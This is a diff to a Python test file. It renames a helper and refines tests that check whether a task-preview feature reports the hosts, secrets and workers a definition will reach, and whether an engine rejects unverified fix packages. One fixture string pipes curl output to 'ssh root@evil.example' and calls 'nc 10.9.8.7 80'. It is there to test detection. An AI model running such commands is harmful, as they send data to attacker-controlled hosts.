@@ -44,7 +44,7 @@ def load(site: Site, text: str = OURS) -> LocalService:
     return service
 
 
-def told(site: Site, kind: str, id: str, content: Any, **values: Any) -> set[tuple[str, str]]:
+def effects_of(site: Site, kind: str, id: str, content: Any, **values: Any) -> set[tuple[str, str]]:
     found = effects([NewDefinition(kind, id, content)], site.engine.store, values)
     assert all(each.where == f"{kind} {id}" or each.where in values for each in found)
     return {(each.kind, each.what) for each in found}
@@ -54,28 +54,28 @@ def test_the_preview_tells_what_will_run_be_read_and_be_reached(site: Site) -> N
     load(site)
     say = {"type": "shell", "process": "curl http://old.example/a"}
 
-    assert told(site, "task", "other", {"nodes": {"say": say}}) == set()
-    assert told(site, "task", "other", {"nodes": {"say": say, "more": {"job": "fetch"}}}) == {
+    assert effects_of(site, "task", "other", {"nodes": {"say": say}}) == set()
+    assert effects_of(site, "task", "other", {"nodes": {"say": say, "more": {"job": "fetch"}}}) == {
         ("node", "more"), ("secret", "api-key"), ("reach", "http://127.0.0.1:9/"),
     }  # fmt: skip
     process = 'curl "http://old.example/a" | ssh root@evil.example; nc 10.9.8.7 80; scp x "https://new.example:8443/b"'
-    assert told(site, "task", "other", {"nodes": {"say": {**say, "process": process}}}) == {
+    assert effects_of(site, "task", "other", {"nodes": {"say": {**say, "process": process}}}) == {
         ("reach", "evil.example"), ("reach", "10.9.8.7"), ("reach", "https://new.example:8443/b"),
     }  # fmt: skip
-    assert told(site, "task", "other", {"nodes": {"say": {**say, "on": {"group": "gpu"}}}}) >= {
+    assert effects_of(site, "task", "other", {"nodes": {"say": {**say, "on": {"group": "gpu"}}}}) >= {
         ("worker", "gpu")
     }
-    assert told(
+    assert effects_of(
         site, "task", "new", {"state": "online", "schedule": {"cron": "0 0 3 * * ?"}, "nodes": {}}
     ) == {("online", '{"schedule": {"cron": "0 0 3 * * ?"}}')}
-    assert told(site, "task", "other", {"schedule": {"cron": "0 0 3 * * ?"}, "nodes": {"say": say}}) == {
-        ("schedule", '{"schedule": {"cron": "0 0 3 * * ?"}}')
-    }
+    assert effects_of(
+        site, "task", "other", {"schedule": {"cron": "0 0 3 * * ?"}, "nodes": {"say": say}}
+    ) == {("schedule", '{"schedule": {"cron": "0 0 3 * * ?"}}')}
     rule = {"id": "again", "match": {"code": -12000000000}, "action": {"run": {"task": "daily"}}}
-    assert told(site, "rule", "again", rule) == {
+    assert effects_of(site, "rule", "again", rule) == {
         ("rule", "task daily"), ("secret", "api-key"), ("reach", "http://127.0.0.1:9/"),
     }  # fmt: skip
-    assert ("used", "task daily") in told(
+    assert ("used", "task daily") in effects_of(
         site, "job", "fetch", {"type": "http", "resource": "api", "method": "POST"}
     )
     assert effects([], site.engine.store, {"$.TASK.PARAMS['u']": "http://x.example/"}) == (
@@ -87,7 +87,7 @@ def test_the_preview_tells_what_will_run_be_read_and_be_reached(site: Site) -> N
 def test_the_engine_applies_only_what_it_has_verified_itself_and_what_was_shown(
     site: Site, tmp_path: Path
 ) -> None:
-    # Given a fix of a supporter, and the same by somebody whom nobody trusts
+    # Given a fix of a supporter, and the same by a person whom nobody trusts
     repaired = Repaired(site, Hand.at(tmp_path / "hand"), tmp_path)
     files = {"plan.json": json.dumps(repaired.plan()).encode()}
     path = repaired.hand.bundle(tmp_path / "fix", "fix", files)
@@ -97,10 +97,10 @@ def test_the_engine_applies_only_what_it_has_verified_itself_and_what_was_shown(
         client = Client(site.root / "engine.sock")
 
         def refused(package: dict[str, Any]) -> int:
-            with pytest.raises(SkerryError) as told:
+            with pytest.raises(SkerryError) as caught:
                 client.amend(package)
             assert client.amendments() == []
-            return told.value.code
+            return caught.value.code
 
         # Then a claim is not enough, nor the right package without what was shown
         claimed = {
